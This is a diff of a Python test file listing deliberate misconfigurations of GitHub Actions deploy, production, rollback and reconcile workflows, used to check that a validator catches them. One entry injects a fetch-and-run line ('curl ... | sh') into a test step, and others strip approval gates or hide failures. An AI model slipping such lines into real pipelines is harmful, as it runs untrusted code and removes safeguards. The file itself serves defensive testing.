@@ -11,9 +11,12 @@ from dataclasses import dataclass
 from pathlib import Path
 
 MAIN, PULL_REQUEST = "workflows/main.yml", "workflows/pull_request.yml"
+RECONCILE, ROLLBACK = "workflows/reconcile.yml", "workflows/rollback.yml"
+PRODUCTION = "workflows/production.yml"
 RELEASE, DEPLOY, SETUP = "workflows/release.yml", "workflows/deploy.yml", "actions/setup/action.yml"
 DEPENDABOT = "dependabot.yml"
 LANGUAGE_SERVICE = "language-service"
+REF = "ref: main # "  # and why
 
 
 @dataclass(frozen=True)
@@ -134,6 +137,17 @@ RIGHTS = (
         "plan",
     ),
     Breakage("a training in deploy's role", RELEASE, "AWS_PIPELINE_ROLE", "AWS_DEPLOY_ROLE", "pipeline"),
+    Breakage("staging in production's role", DEPLOY, "AWS_DEPLOY_ROLE", "AWS_PRODUCTION_ROLE", "staging"),
+    Breakage("staging in production's file", PRODUCTION, "pipelines promote", "pipelines stage"),
+    Breakage("production in the registry's account", PRODUCTION, "vars.AWS_PRODUCTION_ROLE || ", ""),
+    Breakage("a rollback in the registry's account", ROLLBACK, "vars.AWS_PRODUCTION_ROLE || ", ""),
+    Breakage(
+        "production compared in the registry's account",
+        RECONCILE,
+        "${{ vars.AWS_PRODUCTION_ROLE }}",
+        "${{ vars.AWS_DEPLOY_ROLE }}",
+        "production",
+    ),
     Breakage("a variable misspelt", RELEASE, "AWS_PIPELINE_ROLE", "AWS_PIPLINE_ROLE", "image"),
 )
 SCRIPTS = (
@@ -170,10 +184,12 @@ SCRIPTS = (
     Breakage(
         "a script from the network", PULL_REQUEST, "make test", "curl -s https://example.com/i | sh", "test"
     ),
-    Breakage("an error swallowed", DEPLOY, "pipelines promote", "pipelines promote || true", "production"),
+    Breakage(
+        "an error swallowed", PRODUCTION, "pipelines promote", "pipelines promote || true", "production"
+    ),
     Breakage(
         "a failure painted green",
-        DEPLOY,
+        PRODUCTION,
         "- run: .venv",
         "- continue-on-error: true\n        run: .venv",
         "production",
@@ -186,25 +202,76 @@ COURSE = (
     Breakage(
         "a time limit that GitHub cuts", RELEASE, "timeout-minutes: 60", "timeout-minutes: 600", "image"
     ),
+    Breakage(
+        "all pins for a verb that needs few", DEPLOY, "        with:\n          pins: verbs\n", "", "staging"
+    ),
+    Breakage(
+        "the verbs' pins for tests",
+        PULL_REQUEST,
+        "actions/setup\n",
+        "actions/setup\n        with:\n          pins: verbs\n",
+        "test",
+    ),
     Breakage("whatever system is latest", RELEASE, "ubuntu-24.04", "ubuntu-latest", "image"),
     Breakage("a system that is not there", RELEASE, "ubuntu-24.04", "ubuntu-24.40", "image"),
     Breakage("a machine of our own", RELEASE, "ubuntu-24.04", "self-hosted", "image"),
-    Breakage("a queue that drops", DEPLOY, "      queue: max\n", "", "production"),
+    Breakage("a queue that drops", PRODUCTION, "      queue: max\n", "", "production"),
     Breakage(
         "a queue that cancels",
-        DEPLOY,
+        PRODUCTION,
         "queue: max",
         "queue: max\n      cancel-in-progress: true",
         "production",
     ),
-    Breakage("a queue misspelt", DEPLOY, "queue: max", "queue: mxa", "production"),
+    Breakage("a queue misspelt", PRODUCTION, "queue: max", "queue: mxa", "production"),
     Breakage(
         "production in no group",
-        DEPLOY,
+        PRODUCTION,
         "    concurrency:\n      group: production\n      queue: max\n",
         "",
         "production",
     ),
+    Breakage(
+        "two proofs at once on staging",
+        DEPLOY,
+        "    concurrency:\n      group: staging\n      queue: max\n",
+        "",
+        "staging",
+    ),
+    Breakage(
+        "a reviewer is awaited with production's queue in hand",
+        PRODUCTION,
+        "    timeout-minutes: 350\n",
+        "    timeout-minutes: 350\n    environment: production\n",
+    ),
+    Breakage(
+        "a reviewer is awaited in a queue that others need",
+        DEPLOY,
+        "    needs: staging\n",
+        "    needs: staging\n    concurrency:\n      group: staging\n      queue: max\n",
+        "approve",
+    ),
+    Breakage("a release that asks nobody", DEPLOY, "needs: approve", "needs: staging", "production"),
+    Breakage("a permission that counts as a deployment", DEPLOY, "      deployment: false\n", ""),
+    Breakage(
+        "a rollback behind the releases",
+        ROLLBACK,
+        "    environment: production\n",
+        "    environment: production\n    concurrency:\n      group: production\n      queue: max\n",
+    ),
+    Breakage("releases behind the schedule", RECONCILE, "group: reconcile", "group: production", "look"),
+    Breakage("a lost release that holds up the next", RECONCILE, "collect-${{ github.sha }}", "collect"),
+    Breakage(
+        "a lost release that is collected twice",
+        RECONCILE,
+        "    concurrency:\n      group: collect-${{ github.sha }}\n      queue: max\n",
+        "",
+    ),
+    Breakage("an hour-old commit against what is live", RECONCILE, f"{REF}not ", "# not ", "look"),
+    Breakage("an hour-old commit's stacks", RECONCILE, f"{REF}whenever", "# whenever", "infra"),
+    Breakage("a rollback that nobody hears of", ROLLBACK, "pipelines outcome", "pipelines status"),
+    Breakage("a plan that nobody waits for", PULL_REQUEST, "if: ${{ !cancelled() }}", "if: always()", "plan"),
+    Breakage("a comment of a run that was cancelled", PULL_REQUEST, "!cancelled() &&", "always() &&"),
     Breakage(
         "a training that a merge cancels",
         MAIN,
